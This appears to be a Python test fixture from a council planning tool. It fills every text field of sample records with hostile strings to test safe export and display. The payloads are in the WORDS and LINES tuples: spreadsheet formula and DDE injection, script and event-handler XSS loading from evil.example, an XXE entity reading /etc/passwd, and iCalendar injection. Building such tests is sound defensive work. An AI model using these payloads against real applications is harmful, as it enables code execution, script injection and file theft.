"""A register in which every text of every record is one that some program would run."""

from __future__ import annotations

import dataclasses
import itertools
from typing import Any

from planner import fields
from planner.exchange.register_json import read_register
from planner.field_types import Field, FieldType, RecordKind
from planner.register.records import Provider, Service, Spend
from planner.register.register import Register
from planner.register.validity import problems_with
from planner.register.work_records import Action, StoredPlan, TimetableTask
from resources.sample import sample_register_path

WORDS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x","look")',
    '=DDE("cmd";"/C calc";"x")',
    "|calc",
    "%0A=1+1",
    "javascript:alert(1)",
    "<script src=http://evil.example/x.js></script>",
    "<img src=http://evil.example/x.png onerror=alert(1)>",
    "</svg></style><svg onload=alert(1)>",
    "]]><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "{ HYPERLINK http://evil.example } { INCLUDETEXT c:/x }",
    "http://evil.example/path",
    "<a href='javascript:alert(1)'>x</a>",
    "[look](javascript:alert(1))",
    "x;y,z:BEGIN:VEVENT",
)
LINES = ("a\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:file:///etc/passwd", "\t=1+1\n=1+1\r\n@x")
TEXTS = (FieldType.TEXT, FieldType.LONG_TEXT, FieldType.TEXTS)
SCENARIO = "friday-liquidation"


def text_fields(kind: RecordKind) -> list[Field]:
    """Return the fields of a kind that hold words, a future one as well."""
    return [field for field in kind.fields if field.type in TEXTS]


def hostile_register(begin: int = 0, of_each: int = 2) -> tuple[Register, set[tuple[str, str]]]:
    """Return some of the sample with hostile words throughout, and which fields have them.

    `begin` says with which of the words to begin; a field that has rules of its own keeps what
    it holds.
    """
    register = _some_of(read_register(sample_register_path()), of_each)
    words = itertools.cycle((*WORDS, *LINES)[begin:] + (*WORDS, *LINES)[:begin])
    taken: set[tuple[str, str]] = set()
    records: list[Any] = []
    for kind in fields.KINDS:
        for record in register.of_kind(kind.name).values():
            records.append(_spoken(kind, record, register, words, taken))
    council = _spoken(fields.COUNCIL, register.council, register, words, taken)
    return Register.build(council, records), taken


def _spoken(
    kind: RecordKind, record: Any, register: Register, words: Any, taken: set[tuple[str, str]]
) -> Any:
    for number, field in enumerate(text_fields(kind)):
        for _ in range(len(WORDS)):
            text = f"{next(words)} {number}".strip(" ")
            value: Any = (text,) if field.type is FieldType.TEXTS else text
            changed = dataclasses.replace(record, **{field.attribute: value})
            if not problems_with(kind, changed, register):
                record = changed
                taken.add((kind.name, field.name))
                break
    return record


def _some_of(register: Register, of_each: int) -> Register:
    """Return a few records of each kind, and all that they point at."""
    wanted: set[tuple[str, str]] = {("scenario", SCENARIO)}
    for kind in fields.KINDS:
        wanted.update((kind.name, key) for key in list(register.of_kind(kind.name))[:of_each])
    left = list(wanted)
    while left:
        name, key = left.pop()
        kind = fields.BY_NAME[name]
        for target in _targets(kind, register.of_kind(name)[key], register):
            if target not in wanted:
                wanted.add(target)
                left.append(target)
    kept = [
        record
        for kind in fields.KINDS
        for key, record in register.of_kind(kind.name).items()
        if (kind.name, key) in wanted
    ]
    council = dataclasses.replace(register.council, contacts=())
    service = next(record.id for record in kept if isinstance(record, Service))
    provider = next(record.id for record in kept if isinstance(record, Provider))
    more = [
        Spend(provider, "2025-26", "payments.csv", 1_000.0, 2, 900.0),
        TimetableTask(SCENARIO, service, "Something to do", 5, needs=()),
        StoredPlan("plan-1", "A plan", SCENARIO, 1, "draft", content="{}"),
        Action("action-1", "Act", "plan-1", service, "Lead"),
    ]
    return Register.build(council, [*kept, *more])


def _targets(kind: RecordKind, record: Any, register: Register) -> Any:
    for field in kind.fields:
        value = getattr(record, field.attribute)
        if field.type is FieldType.EVENTS:
            for event in value:
                for name in ("provider", "contract", "asset", "service"):
                    if event.target in register.of_kind(name):
                        yield name, event.target
            continue
        keys = [value] if isinstance(value, str) else list(value or ()) if field.links_to else []
        for key in keys:
            for name in field.links_to:
                if key in register.of_kind(name):
                    yield name, key
